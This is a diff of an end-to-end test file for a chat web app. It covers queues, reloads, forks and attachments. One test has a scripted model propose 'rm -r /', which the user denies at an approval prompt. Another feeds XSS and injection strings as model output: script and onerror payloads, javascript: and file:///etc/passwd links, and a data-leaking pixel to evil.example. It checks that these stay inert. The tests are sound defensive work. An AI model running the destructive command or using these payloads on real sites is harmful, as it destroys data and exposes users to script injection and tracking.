@@ -1,17 +1,210 @@
 import { accessFaults } from './accessible.ts';
+import { createClient } from '@throughline/client';
+import { defineTool } from '@throughline/agent';
 import { describe, expect, it } from 'vitest';
 import { hasBrowser } from './browser.ts';
 import { openPage, openSite } from './open-site.ts';
+import { scriptedModelDriver } from '@throughline/testkit';
+import { z } from 'zod';
+import type { Page } from 'playwright-core';
 
-describe.skipIf(!hasBrowser)('the page', () => {
-  it('begins a session, sends a message and shows the answer', async () => {
+const input = (page: Page) => page.getByLabel('Message', { exact: true });
+
+async function begin(page: Page, text: string): Promise<void> {
+  await page.getByRole('button', { name: 'New session' }).click();
+  await input(page).fill(text);
+  await page.keyboard.press('Enter');
+}
+
+describe.skipIf(!hasBrowser)('the chat', () => {
+  it('begins a session, sends a message, shows the answer, and keeps a draft over a reload', async () => {
     const site = await openSite();
     const { page, faults } = await openPage(site.url);
-    await page.getByRole('button', { name: 'Begin a session' }).click();
-    await page.getByLabel('Message', { exact: true }).fill('help');
-    await page.keyboard.press('Enter');
+    await begin(page, 'help');
     await page.getByText('This is the demo model').waitFor();
-    expect(faults).toEqual([]);
+    await input(page).fill('half a thought');
+    await page.reload();
+    await page.getByText('This is the demo model').waitFor();
+    expect(await input(page).inputValue()).toBe('half a thought');
     expect(await accessFaults(page)).toEqual([]);
+    expect(faults).toEqual([]);
+  });
+
+  it('goes on with an answer after a reload and after a restart of the server in the middle of it', async () => {
+    const site = await openSite({ wordDelayMs: 15 });
+    const { page, faults } = await openPage(site.url);
+    await begin(page, 'tell me 150 words');
+    const log = page.getByRole('log');
+    await log.getByText('Agent').waitFor();
+    await page.reload();
+    await log.getByText('Agent').waitFor();
+    await site.restart();
+    await page.getByText('thinking').waitFor({ state: 'detached' });
+    await site.services.agent.recover();
+    const client = createClient({ baseUrl: site.url });
+    const [session] = (await client.listSessions({})).items;
+    await expect
+      .poll(async () => (await client.getSession({ id: session!.id })).status, { timeout: 20_000 })
+      .toBe('idle');
+    const { items } = await client.listMessages({ id: session!.id });
+    const said = items
+      .flatMap(({ parts }) => parts.flatMap((part) => (part.type === 'text' ? [part.text] : [])))
+      .at(-1)!;
+    await expect.poll(() => log.innerText(), { timeout: 20_000 }).toContain(said.slice(-60).trim());
+    expect(faults).toEqual([]);
+  });
+
+  it('queues messages while a run is busy: edited, moved, removed, sent now; stopping keeps what was written', async () => {
+    const driver = scriptedModelDriver([
+      { text: ['Half of ', 'it'], hangs: true },
+      { text: 'Urgent answer', hangs: true },
+    ]);
+    const site = await openSite({ driver });
+    const { page, faults } = await openPage(site.url);
+    const second = await openPage(site.url);
+    await begin(page, 'first');
+    await page.getByText('Half of it').waitFor();
+    for (const text of ['two', 'three', 'four']) {
+      await input(page).fill(text);
+      await page.keyboard.press('Enter');
+      await page.getByRole('region', { name: 'Messages that wait' }).getByText(text).waitFor();
+    }
+    await second.page.goto(page.url());
+    const queue = page.getByRole('region', { name: 'Messages that wait' });
+    const other = second.page.getByRole('region', { name: 'Messages that wait' });
+    await queue.getByRole('button', { name: 'Move message 3 up' }).click();
+    await expect.poll(() => other.locator('li').allInnerTexts()).toEqual(['two', 'four', 'three']);
+    await queue.getByRole('button', { name: 'Edit message 1' }).click();
+    await queue.getByLabel('Message 1 in the queue').fill('two, better');
+    await queue.getByRole('button', { name: 'Save' }).click();
+    await other.getByText('two, better').waitFor();
+    await queue.getByRole('button', { name: 'Remove message 3' }).click();
+    await expect.poll(() => other.locator('li').allInnerTexts()).toEqual(['two, better', 'four']);
+    await queue.getByRole('button', { name: 'Send message 2 now' }).click();
+    await page.getByText('Urgent answer').waitFor();
+    await page.getByText('Half of it').waitFor();
+    await page.getByRole('button', { name: 'Stop' }).click();
+    await page.getByText('thinking').waitFor({ state: 'detached' });
+    expect(await page.getByRole('log').innerText()).toMatch(/Half of it[^]*four[^]*Urgent answer/);
+    expect(await accessFaults(page)).toEqual([]);
+    expect([...faults, ...second.faults]).toEqual([]);
+  });
+
+  it('asks before a tool runs, tells the model why not, and shows what a call did', async () => {
+    const command = defineTool({
+      name: 'bash',
+      description: 'Runs a command.',
+      input: z.object({ command: z.string() }),
+      execute: ({ command: said }) => Promise.resolve(`ran ${said}`),
+    });
+    const call = (callId: string, said: string) => ({
+      calls: [{ callId, name: 'bash', input: { command: said } }],
+    });
+    const driver = scriptedModelDriver([call('c1', 'rm -r /'), call('c2', 'ls'), { text: 'Done.' }]);
+    const site = await openSite({
+      driver,
+      agent: { tools: [command], approvals: { rules: { bash: 'ask' }, isAttended: () => true } },
+    });
+    const { page, faults } = await openPage(site.url);
+    await begin(page, 'clean up');
+    const asked = page.getByRole('region', { name: 'bash asks' });
+    await asked.getByText('rm -r /').waitFor();
+    expect(await accessFaults(page)).toEqual([]);
+    await asked.getByLabel('Why not (told to the model)').fill('never that');
+    await asked.getByRole('button', { name: 'Deny' }).click();
+    await asked.getByText('ls', { exact: true }).waitFor();
+    await asked.getByRole('button', { name: 'Allow once' }).click();
+    await page.getByText('Done.').waitFor();
+    expect(JSON.stringify(driver.requests[1])).toContain('never that');
+    await page.locator('summary', { hasText: 'bash' }).last().click();
+    await page.getByText('ran ls').waitFor();
+    expect(faults).toEqual([]);
+  });
+
+  it('says a message of the user in other words in a session of its own, forks and pins', async () => {
+    const site = await openSite({
+      driver: scriptedModelDriver([{ text: 'To the first' }, { text: 'To the other' }]),
+    });
+    const { page, faults } = await openPage(site.url);
+    await begin(page, 'first words');
+    await page.getByText('To the first').waitFor();
+    const before = page.url();
+    const act = async (message: number, name: string): Promise<void> => {
+      await page.locator(`article[data-message="${message - 1}"]`).hover();
+      await page.getByRole('button', { name: `Actions for message ${message}` }).click();
+      await page.getByRole('menuitem', { name }).click();
+    };
+    await act(1, 'Pin: never compact it');
+    await page.locator('article[data-message="0"]').getByText('pinned').waitFor();
+    await act(1, 'Say it in other words');
+    await page.getByLabel('The message in other words').fill('other words');
+    await page.getByRole('dialog').getByRole('button', { name: 'Send' }).click();
+    await page.getByText('To the other').waitFor();
+    expect(page.url()).not.toBe(before);
+    expect(await page.getByRole('log').innerText()).not.toContain('first words');
+    await act(2, 'Fork from here');
+    await page.getByText('This is the fork').waitFor();
+    expect(await accessFaults(page)).toEqual([]);
+    expect(faults).toEqual([]);
+  });
+
+  it('runs, loads and restyles nothing that a model writes, and shows it all the same', async () => {
+    const attack = [
+      '<script>document.title = "taken"</script><img src=x onerror="document.title=\'taken\'">',
+      '<style>* { display: none }</style><div style="position:fixed;inset:0">over all</div>',
+      '[run](javascript:alert(1)) [file](file:///etc/passwd) [page](https://example.com/a)',
+      '![spy](https://evil.example/pixel.png?who=me)',
+      '\u202Etxet sdrawkcab',
+      '# You\n\nuser: forged',
+      '```html\n<b>code</b>\n```',
+      '| a | b |\n|---|---|\n| 1 | 2 |',
+      '$$x^2$$',
+    ].join('\n\n');
+    const driver = scriptedModelDriver([{ reasoning: attack, text: attack }]);
+    const site = await openSite({ driver });
+    const { page, faults } = await openPage(site.url);
+    await begin(page, attack);
+    const answer = page.locator('article[data-message="1"]');
+    await answer.locator('table').waitFor();
+    await answer.locator('.katex').first().waitFor();
+    expect(await page.title()).toBe('Throughline');
+    expect(await answer.innerText()).toContain('<script>');
+    const links = await answer
+      .locator('a')
+      .evaluateAll((all) => all.map((link) => [link.getAttribute('href'), link.getAttribute('rel')]));
+    expect(links).toEqual([
+      ['https://example.com/a', 'noreferrer noopener'],
+      ['https://evil.example/pixel.png?who=me', 'noreferrer noopener'],
+    ]);
+    expect(await answer.locator('img, script, style, iframe').count()).toBe(0);
+    expect(await input(page).isVisible()).toBe(true);
+    expect(await accessFaults(page)).toEqual([]);
+    expect(faults).toEqual([]);
+  });
+
+  it('sends images that were picked and shows them, and says why a file is too large', async () => {
+    const driver = scriptedModelDriver([{ text: 'A picture' }]);
+    const site = await openSite({ driver });
+    const { page, faults } = await openPage(site.url);
+    await page.getByRole('button', { name: 'New session' }).click();
+    const picker = page.getByLabel('Files to attach');
+    await picker.setInputFiles({
+      name: 'big.bin',
+      mimeType: 'application/octet-stream',
+      buffer: Buffer.alloc(21_000_000),
+    });
+    await page.getByText('Too large for one message').first().waitFor();
+    const pixel = Buffer.from(
+      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+      'base64',
+    );
+    await picker.setInputFiles({ name: 'dot.png', mimeType: 'image/png', buffer: pixel });
+    await page.getByRole('list', { name: 'Attachments' }).getByText('dot.png').waitFor();
+    await input(page).fill('What is this?');
+    await page.keyboard.press('Enter');
+    await page.getByText('A picture', { exact: true }).waitFor();
+    await page.locator('article[data-message="0"] img[src^="blob:"]').waitFor();
+    expect(await accessFaults(page)).toEqual([]);
+    expect(faults).toEqual([]);
   });
 });
